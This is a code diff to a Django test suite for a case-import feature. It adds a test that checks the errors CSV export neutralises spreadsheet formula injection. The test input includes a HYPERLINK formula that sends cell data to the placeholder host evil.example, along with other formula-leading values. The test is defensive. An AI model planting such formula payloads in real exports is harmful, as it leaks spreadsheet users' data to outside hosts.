@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import time
 
@@ -171,3 +172,15 @@ def test_a_job_whose_process_died_is_reported_as_interrupted(signed_in, operator
     cache.set(import_jobs._key("deadbeef"), {**job, "updated": time.time() - 3000}, 60)
     page = signed_in.get(reverse("intake:import_job", args=["deadbeef"])).content.decode()
     assert "导入任务已中断" in page and 'hx-trigger="every 1s"' not in page
+
+
+@pytest.mark.django_db
+def test_the_errors_csv_neutralises_formulas_from_the_uploaded_file(signed_in, geo, category):
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    rows = [good_row(上报时间=hostile), good_row(外部编号="+1-2", 坐标系="@SUM(1)"), good_row(联系电话="-3+4")]
+    response = _upload(signed_in, csv_bytes(rows), "cases.csv")
+    job_id = response["Location"].rstrip("/").rsplit("/", 1)[-1]
+    text = signed_in.get(reverse("intake:import_errors", args=[job_id])).content.decode("utf-8-sig")
+    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
+    assert "'" + hostile in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
